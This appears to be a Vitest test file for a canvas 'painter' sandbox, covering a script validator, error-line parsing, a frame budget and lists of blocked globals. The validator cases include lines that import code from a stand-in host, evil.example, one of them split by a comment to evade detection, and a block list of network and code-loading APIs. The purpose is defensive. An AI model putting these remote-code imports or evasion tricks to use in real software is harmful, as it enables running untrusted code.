import { describe, expect, it } from "vitest";
import { Budget, KEEP, SHADOWED, errorLine, refuse } from "../src/widgets/painter/sandbox";

describe("refuse", () => {
  const cases: [string, string | null][] = [
    ["function paint(ctx, datasets, w, h) {}", null],
    ["function paint(ctx, w, h) { ctx.fillRect(0, 0, w, h); }", null],
    ["const m = await import('https://evil.example/x.js');\nfunction paint() {}", "a painter cannot import modules"],
    ["import x from 'y';\nfunction paint() {}", "a painter cannot import modules"],
    ["function paint() { return import . meta.url; }", "a painter cannot import modules"],
    ["export function paint() {}", "a painter cannot import modules"],
    ["function draw(ctx) {}", "the script defines no paint(ctx, datasets, w, h) function"],
    // A word that only looks like it is fine; the keyword split by a comment is not.
    ["const important = 1, $import = 2;\nfunction paint() {}", null],
    ["function paint() { import/**/('https://evil.example/x.js'); }", "a painter cannot import modules"],
    ["function paint() { x.import(1); }", "a painter cannot import modules"],
  ];
  it.each(cases)("%s", (code, why) => expect(refuse(code)).toBe(why));
});

describe("errorLine", () => {
  it("finds the painter's own line in the engine's stack, past the wrapper", () => {
    const stack = "TypeError: x is not a function\n    at paint (eval at start (worker.js:1:2), <anonymous>:7:11)\n    at draw (worker.js:9:9)";
    expect(errorLine(stack, 3)).toBe(4);
    expect(errorLine("Error: boom\n    at Function:5:3", 3)).toBe(2);
    expect(errorLine("no lines here", 3)).toBeNull();
    expect(errorLine(undefined, 3)).toBeNull();
    expect(errorLine("at x (<anonymous>:2:1)", 3)).toBeNull();
  });
});

describe("Budget", () => {
  it("stops only after the limit of slow frames in a row", () => {
    const b = new Budget(50, 3);
    expect([b.frame(60), b.frame(70), b.frame(10), b.frame(60), b.frame(60)]).toEqual([false, false, false, false, false]);
    expect(b.frame(80)).toBe(true);
  });
});

describe("SHADOWED", () => {
  it("hides every way to the network, to timers and to new code", () => {
    for (const name of ["fetch", "XMLHttpRequest", "WebSocket", "importScripts", "Worker", "Function", "setTimeout", "globalThis", "self", "postMessage", "navigator", "WebAssembly"])
      expect(SHADOWED).toContain(name);
    // Strict code may not name a parameter `eval` (the global one is deleted instead).
    expect(SHADOWED).not.toContain("eval");
  });
  it("keeps the language and the canvas, and nothing that reaches out", () => {
    for (const name of ["Math", "JSON", "Object", "Array", "Float64Array", "OffscreenCanvasRenderingContext2D", "Path2D"]) expect(KEEP.has(name)).toBe(true);
    for (const name of ["fetch", "WebSocket", "WebAssembly", "navigator", "fonts", "setTimeout", "Function", "eval", "indexedDB", "performance", "addEventListener"]) expect(KEEP.has(name)).toBe(false);
  });
});
